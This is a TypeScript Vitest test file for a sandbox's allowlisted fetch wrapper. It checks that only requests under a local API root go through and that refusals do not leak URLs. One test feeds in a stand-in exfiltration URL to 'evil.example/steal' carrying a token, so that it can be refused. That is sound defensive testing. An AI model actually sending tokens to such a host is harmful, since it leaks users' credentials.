import { describe, expect, it } from "vitest";
import { parseApiRoot } from "../live/api-root";
import { allowlistedFetch } from "./live-fetch";

const root = (() => {
  const parsed = parseApiRoot("http://127.0.0.1:8081");
  if (!parsed.ok) throw new Error("root");
  return parsed.value;
})();

describe("the live sandbox's fetch", () => {
  const calls: string[] = [];
  const fake = (async (input: RequestInfo | URL) => {
    calls.push(typeof input === "string" ? input : input instanceof URL ? input.href : input.url);
    return new Response("{}");
  }) as typeof fetch;
  const liveFetch = allowlistedFetch(fake, root);

  it("passes requests under the API root to the real fetch, as strings, URLs or Requests", async () => {
    calls.length = 0;
    await liveFetch("http://127.0.0.1:8081/bot1:x/getMe");
    await liveFetch(new URL("http://127.0.0.1:8081/bot1:x/getUpdates"));
    await liveFetch(new Request("http://127.0.0.1:8081/bot1:x/sendMessage", { method: "POST", body: "{}" }));
    expect(calls).toEqual([
      "http://127.0.0.1:8081/bot1:x/getMe",
      "http://127.0.0.1:8081/bot1:x/getUpdates",
      "http://127.0.0.1:8081/bot1:x/sendMessage",
    ]);
  });

  it("rejects everything else with a TypeError naming the origin but never the URL, and fetches nothing", async () => {
    calls.length = 0;
    const refused = liveFetch("https://evil.example/steal?token=1:secret-value");
    await expect(refused).rejects.toThrow(TypeError);
    await expect(refused).rejects.toThrow("a request to https://evil.example was refused");
    await expect(refused).rejects.not.toThrow(/secret-value/);
    await expect(liveFetch("http://127.0.0.1:9999/bot1/getMe")).rejects.toThrow(TypeError);
    await expect(liveFetch("data:text/plain,hi")).rejects.toThrow(TypeError);
    expect(calls).toEqual([]);
  });
});
